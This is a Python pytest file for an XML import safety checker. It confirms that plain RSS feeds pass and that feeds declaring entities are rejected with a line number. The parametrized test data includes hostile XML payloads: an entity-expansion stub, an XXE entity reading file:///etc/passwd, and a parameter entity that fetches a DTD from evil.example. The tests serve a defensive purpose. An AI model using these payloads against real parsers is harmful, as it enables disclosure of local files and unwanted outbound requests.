"""Tests for clippings.importer.xmlsafe: entity declarations are refused before parsing."""

from __future__ import annotations

from pathlib import Path

import pytest

from clippings.errors import InputError
from clippings.importer.xmlsafe import check_prolog, read_head

P = Path("feed.xml")


def test_plain_xml_and_rss091_doctype_pass() -> None:
    check_prolog(P, b'<?xml version="1.0"?><rss/>')
    check_prolog(
        P,
        b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"/>',
    )


@pytest.mark.parametrize(
    "head",
    [
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">]><lolz>&lol;</lolz>',
        b'<?xml version="1.0"?>\n<!doctype x [\n<!entity xxe SYSTEM "file:///etc/passwd">]><x/>',
        b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    ],
)
def test_entity_declarations_are_refused_with_line(head: bytes) -> None:
    with pytest.raises(InputError, match=r"feed\.xml: line 2: XML entity declarations"):
        check_prolog(P, head)


def test_read_head_errors(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot read"):
        read_head(tmp_path / "missing.xml")
